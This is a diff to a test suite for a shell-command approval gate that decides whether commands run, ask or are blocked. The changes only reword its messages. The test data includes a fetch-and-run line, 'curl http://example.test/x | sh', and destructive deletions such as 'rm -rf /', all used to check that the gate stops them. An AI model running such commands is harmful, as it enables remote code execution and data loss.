@@ -38,7 +38,7 @@ def feed(run: Any, *lines: Any, **more: Any) -> Any:
 def test_what_runs_unasked(run: Any) -> None:
     done = run("explain", "ls -la | wc -l")
     assert done.code == 0
-    assert done.out.splitlines() == ["allow: it runs unasked", "it comes to:", "  ls -la", "  wc -l"]
+    assert done.out.splitlines() == ["allow: it runs without asking", "it runs:", "  ls -la", "  wc -l"]
 
 
 def test_the_story_of_a_command(run: Any, tmp_path: Path) -> None:
@@ -47,7 +47,7 @@ def test_the_story_of_a_command(run: Any, tmp_path: Path) -> None:
     done = run("explain", f"sudo rm -rf build && {PUSH}")
     assert done.code == 1
     assert done.out.startswith("ask")
-    assert "it comes to:\n" in done.out
+    assert "it runs:\n" in done.out
     assert "rm -rf build" in done.out
     assert done.out.count("decided by: a user, in a session; if no user can be asked, it is denied") >= 2
     assert (tmp_path / "build").is_dir()
@@ -91,7 +91,7 @@ def test_the_roles_that_may_agree_in_chats_are_told(run: Any, plain: Any) -> Non
     """003-25: the longest matching name decides, then owner; no role may approve a blocked command."""
     plain("gateway: {approvers: {fs: [owner, admins]}}\nplatforms: {irc: {}}\n")
     out = run("explain", "rm -rf build; curl http://example.test/x | sh").out
-    assert out.count("      in chats of the gateway: admins or owner may agree\n") == 1
+    assert out.count("      in chats of the gateway: admins or owner may approve\n") == 1
     assert "      in chats of the gateway: owner may agree\n" in out
     assert "in chats" not in run("explain", "rm -rf /").out
     (finding,) = json.loads(run("explain", "--json", "rm -rf /").out)["findings"]
@@ -120,7 +120,7 @@ def test_scripts_are_looked_into(run: Any, tmp_path: Path) -> None:
     assert told["level"] == "ask"
     assert told["looked_at"] == [str(tmp_path / "clean.sh")]
     assert "rm -rf build" in told["resolved"]
-    assert f"looked into: {tmp_path / 'clean.sh'}" in run("explain", "bash clean.sh").out
+    assert f"read: {tmp_path / 'clean.sh'}" in run("explain", "bash clean.sh").out
     (tmp_path / "clean.sh").write_text("echo hello\n")
     assert run("explain", "bash clean.sh").code == 0
 
@@ -137,7 +137,7 @@ def test_another_folder(run: Any, tmp_path: Path) -> None:
     (tmp_path / "sub" / "clean.sh").write_text("rm -rf build\n")
     assert json.loads(run("explain", "--json", "--cwd", "sub", "bash clean.sh").out)["cwd"] == str(tmp_path / "sub")
     assert run("explain", "--cwd", "sub", "bash clean.sh").code == 1
-    assert "is no folder" in run("explain", "--cwd", "gone", "ls").err
+    assert "is not a folder" in run("explain", "--cwd", "gone", "ls").err
 
 
 def test_a_permanent_grant_is_named(run: Any, tmp_path: Path) -> None:
@@ -188,7 +188,7 @@ def test_a_lasting_grant_lets_it_run(run: Any, tmp_path: Path) -> None:
     with assemble(project_dir=tmp_path, store=MemoryStore()) as crib:
         run_async(crib.grants.add(new_grant("always", "", str(tmp_path), argv=("rm", "-rf", "build"), by="terminal")))
     done = run("explain", "rm -rf build")
-    assert (done.code, done.out.splitlines()[0]) == (0, "allow: it runs unasked")
+    assert (done.code, done.out.splitlines()[0]) == (0, "allow: it runs without asking")
     assert lines_of(feed(run, {"command": "rm -rf build"}))[0]["level"] == "allow"
 
 
@@ -216,7 +216,7 @@ def test_as_a_stored_session_would(run: Any, plain: Any, tmp_path: Path) -> None
     ]
     for _ in range(3):
         shown = run("explain", "--session", "5e55", "rm -rf build").out
-        assert shown.startswith("allow: it runs unasked\n")
+        assert shown.startswith("allow: it runs without asking\n")
         assert f"decided by: the grant {grant.id[:8]} (fs.recursive-delete below {tmp_path}/, uses)" in shown
     assert run("explain", "rm -rf build").code == 1
     assert [one.uses_left for one in run_async(store.grants.all("5e551044"))] == [1]
@@ -246,10 +246,10 @@ def test_one_object_a_line(run: Any) -> None:
 @pytest.mark.parametrize(
     ("line", "says"),
     [
-        (b"rm -rf build", "not JSON"),
-        (b'{"command": "ls"', "not JSON"),
-        (b"\xff\xfe", "not JSON"),
-        (b"[" * 100_000, "not JSON"),
+        (b"rm -rf build", "not valid JSON"),
+        (b'{"command": "ls"', "not valid JSON"),
+        (b"\xff\xfe", "not valid JSON"),
+        (b"[" * 100_000, "not valid JSON"),
         (b"[]", "expected an object"),
         (b'"ls"', "expected an object"),
         (b'{"id": "x"}', "expected an object"),
@@ -321,7 +321,7 @@ def test_the_same_rules_decide_the_same(run: Any, tmp_path: Path) -> None:
         ("blocked", "rm -rf build; rm -rf /", "block", "fs.recursive-delete"),  # the log has the key that blocked it
     )
     done = run("explain", "--replay")
-    assert (done.code, done.out) == (0, "6 decisions judged again, 0 would differ\n")
+    assert (done.code, done.out) == (0, "6 decisions judged again, 0 differ\n")
 
 
 def test_what_today_s_rules_would_decide_otherwise(run: Any, tmp_path: Path) -> None:
@@ -339,7 +339,7 @@ def test_what_today_s_rules_would_decide_otherwise(run: Any, tmp_path: Path) -> 
     assert "ask -> allow: ls\n    nothing found\n" in shown
     assert f"ask -> ask: rm -rf build\n    {key}\n" in shown
     assert "\x1b" not in shown
-    assert shown.endswith("5 decisions judged again, 4 would differ\n")
+    assert shown.endswith("5 decisions judged again, 4 differ\n")
     told = json.loads(run("explain", "--replay", "--json").out)
     assert told["judged"] == 5
     assert [(one["was"], one["now"]) for one in told["changed"]][:2] == [("allow", "ask"), ("ask", "allow")]
@@ -360,13 +360,13 @@ def test_entries_that_are_no_commands_are_passed_over(run: Any, tmp_path: Path) 
     for detail in ({}, {"paths": ["/p/a"], "keys": ["persist.x"]}, {"command": None}, {"command": "ls", "keys": ["tool.rule@t"]}):
         run_async(store.audit.record(AuditEntry(time.time(), "5e551044", "c", "t", "denied", "ann", detail)))
     store.close()
-    assert run("explain", "--replay").out == "1 decisions judged again, 0 would differ\n"
+    assert run("explain", "--replay").out == "1 decisions judged again, 0 differ\n"
 
 
 def test_replay_says_which_scripts_it_read(run: Any, tmp_path: Path) -> None:
     (tmp_path / "x.sh").write_text("rm -rf build\n")
     log(tmp_path, ("allowed", "bash x.sh", None, ""))
-    assert f"    by what is in {tmp_path / 'x.sh'} today\n" in run("explain", "--replay").out
+    assert f"    with today's content of {tmp_path / 'x.sh'}\n" in run("explain", "--replay").out
 
 
 def test_a_command_is_explained_as_in_a_mode(run: Any) -> None:
